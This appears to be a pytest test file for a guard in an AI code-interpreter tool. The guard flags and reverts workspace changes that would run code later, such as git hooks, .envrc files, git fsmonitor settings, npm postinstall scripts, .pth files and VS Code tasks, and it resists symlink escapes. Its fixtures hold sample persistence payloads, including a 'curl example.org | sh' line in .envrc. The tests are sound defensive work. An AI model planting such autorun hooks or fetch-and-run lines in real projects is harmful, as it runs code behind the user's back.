"""The guard: what runs by itself later is flagged after a block, and put back."""

import json
import subprocess

import pytest

from interpreter.policies.autorun import AutorunGuard, Changed, Flag


@pytest.fixture
def workspace(tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    return tmp_path


@pytest.fixture
def guard(workspace):
    guard = AutorunGuard(workspace)
    guard.begin()
    yield guard
    guard.close()


def test_ordinary_work_is_not_flagged(guard, workspace):
    (workspace / "main.py").write_text("print()")
    subprocess.run(["git", "-C", str(workspace), "add", "main.py"], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "user.name", "Ann"], check=True)
    assert guard.end([Changed("main.py", is_new=True)]) == ()


def test_a_new_hook_is_flagged_and_removed(guard, workspace):
    hook = workspace / ".git/hooks/pre-commit"
    hook.write_text("#!/bin/sh\n")
    flags = guard.end()
    assert flags == (Flag(".git/hooks/pre-commit", "added"),)
    assert guard.revert(flags) == ()
    assert not hook.exists()


def test_a_changed_file_gets_its_content_and_mode_back(workspace):
    file = workspace / ".envrc"
    file.write_text("export A=1\n")
    file.chmod(0o640)
    guard = AutorunGuard(workspace)
    guard.begin()
    file.write_text("curl example.org | sh\n")
    file.chmod(0o777)
    flags = guard.end()
    assert flags == (Flag(".envrc", "changed"),)
    guard.revert(flags)
    assert file.read_text() == "export A=1\n"
    assert file.stat().st_mode & 0o777 == 0o640
    guard.close()


def test_git_is_not_made_to_run_things(guard, workspace):
    command = ["git", "-C", str(workspace), "config", "core.fsmonitor", "/tmp/x"]
    subprocess.run(command, check=True)
    flags = guard.end()
    assert flags == (Flag(".git/config", "changed"),)
    guard.revert(flags)
    assert "fsmonitor" not in (workspace / ".git/config").read_text()


def test_only_the_scripts_of_a_package_matter(guard, workspace):
    manifest = workspace / "package.json"
    manifest.write_text(json.dumps({"name": "a"}))
    assert guard.end() == ()
    manifest.write_text(json.dumps({"name": "a", "scripts": {"postinstall": "sh x"}}))
    assert guard.end() == (Flag("package.json", "added"),)


@pytest.mark.parametrize(
    "path", ["sub/.git/hooks/post-checkout", "a/b/.envrc", "lib/sitecustomize.py", "x/evil.pth"]
)
def test_files_deep_down_are_flagged_when_the_change_is_known(guard, workspace, path):
    (workspace / path).parent.mkdir(parents=True)
    (workspace / path).write_text("x")
    flags = guard.end([Changed(path, is_new=True)])
    assert flags == (Flag(path, "added"),)
    guard.revert(flags)
    assert not (workspace / path).exists()


def test_a_file_deep_down_gets_back_what_it_held(guard, workspace, tmp_path):
    file, kept = workspace / "a/.envrc", tmp_path / "kept"
    file.parent.mkdir()
    file.write_text("curl example.org | sh\n")
    kept.write_text("export A=1\n")
    flags = guard.end([Changed("a/.envrc", before=kept)])
    assert flags == (Flag("a/.envrc", "changed"),)
    assert guard.revert(flags) == ()
    assert file.read_text() == "export A=1\n"


def test_a_file_whose_content_is_not_known_is_left_alone(guard, workspace):
    (workspace / "a").mkdir()
    (workspace / "a/.envrc").write_text("x")
    flags = guard.end([Changed("a/.envrc")])
    assert flags == (Flag("a/.envrc", "changed", can_revert=False),)
    assert guard.revert(flags) == ("a/.envrc",)
    assert (workspace / "a/.envrc").read_text() == "x"


def changed_below(directory, workspace):
    files = [path for path in directory.rglob("*") if path.is_file()]
    return [Changed(str(path.relative_to(workspace)), is_new=True) for path in files]


def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
    subprocess.run(["git", "init", "-q", str(workspace / "sub")], check=True)
    (workspace / "sub/.vscode").mkdir()
    (workspace / "sub/.vscode/settings.json").write_text("{}")
    (workspace / "env/lib").mkdir(parents=True)
    (workspace / "env/pyvenv.cfg").write_text("home = /usr/bin")
    (workspace / "env/lib/distutils.pth").write_text("import os")
    changes = [*changed_below(workspace / "sub", workspace)]
    assert guard.end([*changes, *changed_below(workspace / "env", workspace)]) == ()


def test_what_only_looks_like_a_new_environment_hides_nothing(guard, workspace):
    (workspace / "src").mkdir()
    (workspace / "src/main.py").write_text("old")
    for name in ("pyvenv.cfg", ".envrc"):
        (workspace / "src" / name).write_text("x")
    new = [Changed("src/pyvenv.cfg", is_new=True), Changed("src/.envrc", is_new=True)]
    assert guard.end(new) == (Flag("src/.envrc", "added"),)


def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
    outside, workspace = tmp_path / "outside", tmp_path / "workspace"
    for directory in (outside, workspace / ".vscode"):
        directory.mkdir(parents=True)
    (outside / "tasks.json").write_text("precious")
    (workspace / ".vscode/tasks.json").write_text("{}")
    guard = AutorunGuard(workspace)
    guard.begin()
    (workspace / ".vscode/tasks.json").write_text("evil")
    flags = guard.end()
    (workspace / ".vscode/tasks.json").unlink()
    (workspace / ".vscode").rmdir()
    (workspace / ".vscode").symlink_to(outside)
    assert guard.revert(flags) == (".vscode/tasks.json",)
    assert (outside / "tasks.json").read_text() == "precious"
    guard.close()


def test_a_link_in_the_place_of_a_file_is_replaced_not_followed(tmp_path):
    workspace, outside = tmp_path / "workspace", tmp_path / "precious"
    workspace.mkdir()
    outside.write_text("precious")
    (workspace / ".envrc").write_text("mine")
    guard = AutorunGuard(workspace)
    guard.begin()
    (workspace / ".envrc").unlink()
    (workspace / ".envrc").symlink_to(outside)
    guard.revert(guard.end())
    assert outside.read_text() == "precious"
    assert (workspace / ".envrc").read_text() == "mine"
    guard.close()


def test_a_bare_repository_is_noticed(guard, workspace):
    (workspace / "HEAD").write_text("ref: refs/heads/main\n")
    assert guard.end() == (Flag("HEAD", "added"),)
